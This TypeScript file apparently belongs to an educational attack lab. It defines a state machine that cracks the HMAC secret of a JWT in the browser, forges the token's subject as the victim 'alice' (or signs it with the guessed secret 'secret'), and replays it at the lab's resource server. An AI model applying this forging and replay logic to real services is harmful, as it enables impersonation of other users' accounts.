import { assign, fromCallback, fromPromise, sendTo, setup, type EventObject } from 'xstate';
import { hs256Token, patched, readToken } from '@/lib/attack-lab/forge';
import {
  browserCracker,
  describeFigures,
  findingOf,
  notHs256,
  type Cracker,
  type CrackFigures,
  type CrackFinding,
} from '@/lib/attack-lab/hmac-crack';
import type { Outcome } from '@/lib/attack-lab/verdict';
import { forgeHs256 } from '@/lib/jwt/crack/forge';
import { ok } from '@/lib/oauth-client/result';
import type { RealmDescriptor } from '@/lib/realms/descriptor';
import { sharedActions, sharedGuards } from '@/machines/shared';
import { endSteps, enterStep, requestSteps } from '../request-step';
import { BUSY, emptyFlowContext } from '../step-meta';
import { resultValue, type StepInput, type StepOutput } from '../step-output';
import type { AttackContextBase, AttackInput } from './attack-input';
import { forgeFailed, mallorysOwnToken, replayAtRs, VICTIM, VICTIM_NAME, type OwnToken, type Replay } from './mallory';
import { WEAK_HMAC_STEPS as S } from './weak-hmac-secret.steps';

/** What Mallory signs with when she has no cracked secret: the list's most common entry, a guess. */
export const GUESSED_SECRET = 'secret';

export interface WeakHmacContext extends AttackContextBase {
  own?: OwnToken;
  metadata?: OwnToken['metadata'];
  /** The cracker's figures while it runs. */
  progress?: CrackFigures;
  crack?: CrackFinding;
  replay?: Replay;
}

type Event =
  | { type: 'user.next' }
  | { type: 'user.cancelCrack' }
  | { type: 'user.crackAgain' }
  | { type: 'crack.progress'; progress: CrackFigures }
  | { type: 'crack.done'; finding: CrackFinding }
  | { type: 'crack.error'; code: string; message: string };

/**
 * The crack as an actor: the token's `alg` is read first (an ES256 token has no HMAC secret, so
 * nothing is guessed), then the cracker runs, reporting progress; `user.cancelCrack` stops it.
 */
export function crackActor(cracker: Cracker) {
  return fromCallback<EventObject, { token: string }>(({ input, sendBack, receive }) => {
    let live = true;
    const tell = (e: Event) => queueMicrotask(() => live && sendBack(e));
    const other = notHs256(input.token);
    if (other) {
      tell(
        'error' in other
          ? { type: 'crack.error', code: 'ERR_CRACK_MALFORMED_TOKEN', message: other.error }
          : { type: 'crack.done', finding: { kind: 'not-hmac', alg: other.alg } },
      );
      return () => void (live = false);
    }
    const handle = cracker(input.token, (p) => tell({ type: 'crack.progress', progress: p }));
    void handle.result.then((outcome) => {
      const f = findingOf(outcome);
      tell(f.ok ? { type: 'crack.done', finding: f.finding } : { type: 'crack.error', code: f.code, message: f.message });
    });
    receive((e) => {
      if (e.type === 'user.cancelCrack') handle.cancel();
    });
    return () => {
      live = false;
      handle.cancel();
    };
  });
}

/**
 * RFC 8725 §3.5: with the cracked secret, Mallory re-signs her own token with `sub` = alice. With
 * no secret (not found, cancelled, or an ES256 token) she signs HS256 with a guess: the RS decides.
 */
export async function forgeWithSecret({
  step,
  own,
  crack,
}: {
  step: string;
  own: OwnToken;
  crack: CrackFinding;
}): Promise<StepOutput<Replay>> {
  const token = own.tokens.access_token;
  const read = readToken(token);
  if (!read.ok) return forgeFailed(step, read.message);
  const { header, payload } = read.value;
  const base = { victim: VICTIM, victimName: VICTIM_NAME };
  const subFact = { label: 'Claim sub', value: `${String(payload.sub)} → ${VICTIM}` };
  if (crack.kind === 'found') {
    try {
      const forged = forgeHs256(token, crack.secret, { sub: VICTIM });
      const facts = [subFact, { label: 'Signed with', value: `HS256, the cracked secret "${crack.secret}"` }];
      return {
        step,
        exchanges: [],
        facts,
        result: ok({ ...base, token: forged, sent: `the token she re-signed HS256 with the cracked secret "${crack.secret}"` }),
      };
    } catch (e) {
      return forgeFailed(step, e instanceof Error ? e.message : String(e));
    }
  }
  const forged = await hs256Token(
    { header: patched(header, { alg: 'HS256' }), payload: patched(payload, { sub: VICTIM }) },
    new TextEncoder().encode(GUESSED_SECRET),
  );
  const facts = [
    { label: 'Header alg', value: `${String(header.alg)} → HS256` },
    subFact,
    { label: 'Signed with', value: `HS256, the guessed secret "${GUESSED_SECRET}" (no secret was cracked)` },
  ];
  return {
    step,
    exchanges: [],
    facts,
    result: ok({ ...base, token: forged, sent: `the token she signed HS256 with the guessed secret "${GUESSED_SECRET}"` }),
  };
}

function crackFacts(f: CrackFinding): Array<{ label: string; value: string }> {
  if (f.kind === 'not-hmac') return [{ label: 'Token alg', value: `${f.alg}: no HMAC secret to crack` }];
  const rows = [{ label: 'Guesses', value: describeFigures(f) }];
  if (f.kind === 'found') rows.push({ label: 'Secret', value: `"${f.secret}"` });
  else rows.push({ label: 'Secret', value: f.kind === 'cancelled' ? 'not found (cancelled)' : 'not in the wordlist' });
  return rows;
}

const ID = 'weakHmacSecret';

/** Mallory's own HS256 token → crack its secret in the browser → forge `sub` = alice → replay at the RS. */
export const weakHmacSecretMachine = setup({
  types: { context: {} as WeakHmacContext, events: {} as Event, input: {} as AttackInput, tags: {} as typeof BUSY },
  actors: {
    ownToken: fromPromise<StepOutput<OwnToken>, StepInput<{ realm: RealmDescriptor }>>(({ input }) =>
      mallorysOwnToken(input.step, input.realm),
    ),
    crack: crackActor(browserCracker),
    forge: fromPromise<StepOutput<Replay>, StepInput<{ own: OwnToken; crack: CrackFinding }>>(({ input }) => forgeWithSecret(input)),
    replay: fromPromise<StepOutput<Outcome>, StepInput<{ realm: RealmDescriptor; replay: Replay }>>(({ input }) =>
      replayAtRs(input.step, input.realm, input.replay),
    ),
  },
  actions: {
    ...sharedActions<WeakHmacContext, Event>(),
    storeOwn: assign(({ event }) => {
      const own = resultValue<OwnToken>(event);
      return { own, metadata: own?.metadata };
    }),
    storeProgress: assign({ progress: ({ event }) => (event.type === 'crack.progress' ? event.progress : undefined) }),
    startCrack: assign({ progress: undefined, crack: undefined }),
    storeCrack: assign(({ context, event }) => {
      if (event.type !== 'crack.done') return {};
      return { crack: event.finding, facts: { ...context.facts, crack: crackFacts(event.finding) } };
    }),
    storeCrackError: assign({
      error: ({ event }) => (event.type === 'crack.error' ? { code: event.code, message: event.message, where: 'crack' } : undefined),
    }),
    cancelCrack: sendTo('crack', { type: 'user.cancelCrack' }),
    storeReplay: assign({ replay: ({ event }) => resultValue<Replay>(event) }),
    storeOutcome: assign({ outcome: ({ event }) => resultValue<Outcome>(event) }),
  },
  guards: sharedGuards,
}).createMachine({
  id: ID,
  context: ({ input }) => ({ ...emptyFlowContext(), input }),
  initial: 'ownToken',
  states: {
    ...requestSteps<WeakHmacContext>(ID)({
      ownToken: {
        meta: S.ownToken,
        src: 'ownToken',
        input: ({ context }) => ({ realm: context.input.realm }),
        store: 'storeOwn',
        next: 'crack',
      },
    }),
    crack: {
      meta: S.crack,
      entry: enterStep('crack'),
      initial: 'running',
      states: {
        running: {
          tags: [BUSY],
          entry: 'startCrack',
          invoke: { id: 'crack', src: 'crack', input: ({ context }) => ({ token: context.own!.tokens.access_token }) },
          on: {
            'crack.progress': { actions: 'storeProgress' },
            'user.cancelCrack': { actions: 'cancelCrack' },
            'crack.done': { target: 'ready', actions: 'storeCrack' },
            'crack.error': { target: `#${ID}.failed`, actions: 'storeCrackError' },
          },
        },
        ready: { on: { 'user.next': `#${ID}.forge`, 'user.crackAgain': 'running' } },
      },
    },
    ...requestSteps<WeakHmacContext>(ID)({
      forge: {
        meta: S.forge,
        src: 'forge',
        input: ({ context }) => ({ own: context.own!, crack: context.crack! }),
        store: 'storeReplay',
        next: 'replay',
      },
      replay: {
        meta: S.replay,
        src: 'replay',
        input: ({ context }) => ({ realm: context.input.realm, replay: context.replay! }),
        store: 'storeOutcome',
        next: 'outcome',
      },
    }),
    ...endSteps({ outcome: S.outcome, failed: S.failed }),
  },
});
